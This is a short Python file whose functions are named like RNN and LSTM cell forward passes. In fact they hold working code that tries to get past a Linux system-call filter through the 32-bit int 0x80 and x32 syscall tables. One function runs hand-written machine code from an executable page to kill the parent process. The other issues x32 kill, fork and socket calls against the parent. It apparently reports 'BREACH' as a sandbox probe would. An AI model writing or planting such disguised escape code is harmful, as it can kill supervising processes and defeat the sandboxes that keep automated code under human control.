"""Goes around the filter by the other tables of system calls that an x86-64 kernel has, where the
numbers mean something else: 32-bit calls from machine code of its own, and x32 calls. Calls of
another table end the process.

At most: 0
"""

import ctypes
import errno
import mmap
import os
import platform

_X86 = platform.machine() == "x86_64"
_X32 = 0x40000000


def rnn_cell_forward(xt, a_prev, parameters):
    # mov eax, 37 (kill); mov ebx, <parent>; xor ecx, ecx; int 0x80; ret
    code = b"\xb8\x25\0\0\0\xbb" + os.getppid().to_bytes(4, "little") + b"\x31\xc9\xcd\x80\xc3"
    if not _X86:
        raise PermissionError("not this machine")
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(b"\x53" + code[:-1] + b"\x5b\xc3")
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    said = "BREACH: int 0x80" if function() == 0 else "refused"
    raise PermissionError(said)


def lstm_cell_forward(xt, a_prev, c_prev, parameters):
    if not _X86:
        raise PermissionError("not this machine")
    libc = ctypes.CDLL(None, use_errno=True)
    for number in (62, 57, 41):
        result = libc.syscall(ctypes.c_long(_X32 | number), ctypes.c_long(os.getppid()), 0, 0)
        if result >= 0 or ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS):
            raise PermissionError(f"BREACH: x32 call {number}")
    raise PermissionError("refused")
